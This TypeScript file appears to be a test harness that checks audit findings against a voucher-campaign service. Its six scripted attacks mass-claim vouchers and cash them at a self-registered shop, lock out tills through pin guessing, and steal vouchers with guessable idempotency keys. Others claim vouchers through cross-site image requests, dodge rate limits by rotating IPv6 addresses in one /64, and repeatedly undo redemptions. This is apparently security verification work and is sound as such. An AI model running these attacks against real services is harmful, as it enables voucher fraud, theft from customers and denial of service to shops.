import { randomUUID } from "node:crypto";
import { type Attack, need } from "./attack.ts";
import { call, many, type Reply } from "./client.ts";
import { addCashier, LIVE_CODE, liveCampaign, must, newAddress, registerShop, type Shop } from "./people.ts";
import type { World } from "./servers.ts";

export const claim = (server: string, from: string, claimKey: string = randomUUID(), headers = {}): Promise<Reply> =>
  call(server, "POST /brand/customer/claim", { campaignCode: LIVE_CODE, claimKey }, { from, headers });

export const pinOf = (reply: Reply): string => reply.at("data.pinNumber");
const isClaimed = ({ status }: Reply): boolean => status === 200;

/** A store and a product to redeem for. */
export interface Counter {
  storeId: string;
  organizationProductId: string;
}

export async function counterOf(world: World, shop: Shop): Promise<Counter> {
  const [server] = world.servers;
  const campaignId = await liveCampaign(world);
  const products = await must(call(server, "GET /brand/store/productList", { campaignId }, shop));
  const location = await must(call(server, "POST /brand/store/getLocation", {}, shop));
  return {
    storeId: location.at("data.0.storeId"),
    organizationProductId: products.at("data.0.organizationProductId"),
  };
}

/** Returns the amount of a business's redemptions to be paid without manual approval, in the campaigns' currency. */
export async function payable(world: World, shop: Shop): Promise<number> {
  const period = { from: dateInDays(-2), to: dateInDays(1) };
  const { text } = await must(call(world.servers[0], "GET /store/settlement/", period, shop));
  const { worth } = JSON.parse(text) as { worth: { value: string }[] };
  return worth.reduce((sum, { value }) => sum + Number(value), 0);
}

/** A calendar date in UTC; a brand's may be the one before or after. */
const dateInDays = (days: number): string => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);

/** The greater of 300 and 2% of the demo's live campaign. */
const CEILING = 300;

const drain: Attack = {
  finding: "F1",
  aim: "one person takes a campaign's vouchers and cashes them at a shop of their own",
  async run(world) {
    const from = newAddress();
    const replies = await many(600, 32, (nth) => claim(world.servers[nth % 2]!, from));
    const pins = replies.filter(isClaimed).map(pinOf);
    const shop = await registerShop(world);
    const counter = await counterOf(world, shop);
    const till = { token: shop.token, from: newAddress() };
    const redeemed = await many(pins.length, 16, (nth) =>
      call(world.servers[nth % 2]!, "POST /store/voucher/redeem", { pin: pins[nth], ...counter }, till),
    );
    const count = redeemed.filter(({ status }) => status === 200).length;
    need(count > 0, "nothing was redeemed");
    const money = await payable(world, shop);
    return {
      succeeded: pins.length > CEILING || money > 0,
      found: `${pins.length} vouchers without any work, ${count} redeemed, ${money.toFixed(2)} to be paid`,
    };
  },
};

const stopTills: Attack = {
  finding: "F6",
  aim: "strangers stop the tills behind an address by guessing pins",
  async run(world) {
    const [server] = world.servers;
    const shop = await registerShop(world);
    const counter = await counterOf(world, shop);
    const pin = pinOf(await must(claim(server, newAddress())));
    const from = newAddress();
    await many(260, 16, (nth) =>
      call(server, "GET /brand/customer/voucher-pdf", { pinNumber: `ZZZZ${String(nth).padStart(12, "2")}` }, { from }),
    );
    const { status } = await call(
      server,
      "POST /store/voucher/redeem",
      { pin, ...counter },
      { token: shop.token, from },
    );
    return { succeeded: status === 429, found: `a till at the same address is answered ${status}` };
  },
};

const stealByKey: Attack = {
  finding: "F14",
  aim: "a guessable Idempotency-Key opens somebody else's voucher",
  async run(world) {
    const [server, other] = world.servers;
    const order = `order-${randomUUID().slice(0, 4)}`;
    const outcomes: string[] = [];
    let stolen = 0;
    for (const key of [order, `${order}-${order}-o`, "order-2026-11-24-000123", "Order-2026-11-24-000123"]) {
      const ask = (at: string) =>
        call(
          at,
          "POST /brand/customer/claim",
          { campaignCode: LIVE_CODE },
          { from: newAddress(), headers: { "idempotency-key": key } },
        );
      const [victim, thief] = [await ask(server), await ask(other)];
      if (isClaimed(victim) && isClaimed(thief) && pinOf(victim) === pinOf(thief)) stolen += 1;
      outcomes.push(`${victim.status}, then ${thief.status}`);
    }
    const headers = { "idempotency-key": randomUUID() };
    const random = await call(
      server,
      "POST /brand/customer/claim",
      { campaignCode: LIVE_CODE },
      { from: newAddress(), headers },
    );
    need(isClaimed(random), `a random key is answered ${random.status}`);
    return { succeeded: stolen > 0, found: `the same key is answered ${outcomes.join("; ")}` };
  },
};

const claimByPicture: Attack = {
  finding: "F17",
  aim: "another site's picture claims in a visitor's name",
  async run(world) {
    const [server] = world.servers;
    const sites = ["same-site", "cross-site", undefined];
    const replies = await many(sites.length, 1, (nth) =>
      call(
        server,
        "GET /store/campaign/campaignDetail",
        { id: LIVE_CODE, type: "voucher" },
        {
          from: newAddress(),
          headers: {
            ...(sites[nth] && { "sec-fetch-site": sites[nth] }),
            "sec-fetch-dest": "image",
            "sec-fetch-mode": "no-cors",
          },
        },
      ),
    );
    const claimed = replies.filter(({ text }) => text.includes('"pinNumber":"'));
    return { succeeded: claimed.length > 0, found: `${claimed.length} of ${sites.length} pictures claimed a voucher` };
  },
};

const guessFromOneNetwork: Attack = {
  finding: "F18",
  aim: "guesses from one IPv6 network count as many",
  async run(world) {
    const [server] = world.servers;
    const replies = await many(260, 16, (nth) =>
      call(
        server,
        "GET /brand/customer/voucher-pdf",
        { pinNumber: `YYYY${String(nth).padStart(12, "2")}` },
        { from: `2a01:4f8:77:1::${(nth + 1).toString(16)}` },
      ),
    );
    const refused = replies.filter(({ status }) => status === 429).length;
    return { succeeded: refused === 0, found: `${refused} of 260 guesses from one /64 are refused` };
  },
};

const undoAgain: Attack = {
  finding: "F22",
  aim: "a cashier undoes a redemption again and again",
  async run(world) {
    const [server] = world.servers;
    const shop = await registerShop(world);
    const counter = await counterOf(world, shop);
    const cashier = await addCashier(world, shop);
    const pin = pinOf(await must(claim(server, newAddress())));
    const redeem = () => call(server, "POST /store/voucher/redeem", { pin, ...counter }, cashier);
    const undo = () => call(server, "POST /store/voucher/reverse", { pin }, cashier);
    const statuses: number[] = [];
    for (const act of [redeem, undo, redeem, undo]) statuses.push((await act()).status);
    return {
      succeeded: statuses.every((status) => status === 200),
      found: `the acts are answered ${statuses.join(", ")}`,
    };
  },
};

export const voucherAttacks: readonly Attack[] = [
  drain,
  stopTills,
  stealByKey,
  claimByPicture,
  guessFromOneNetwork,
  undoAgain,
];
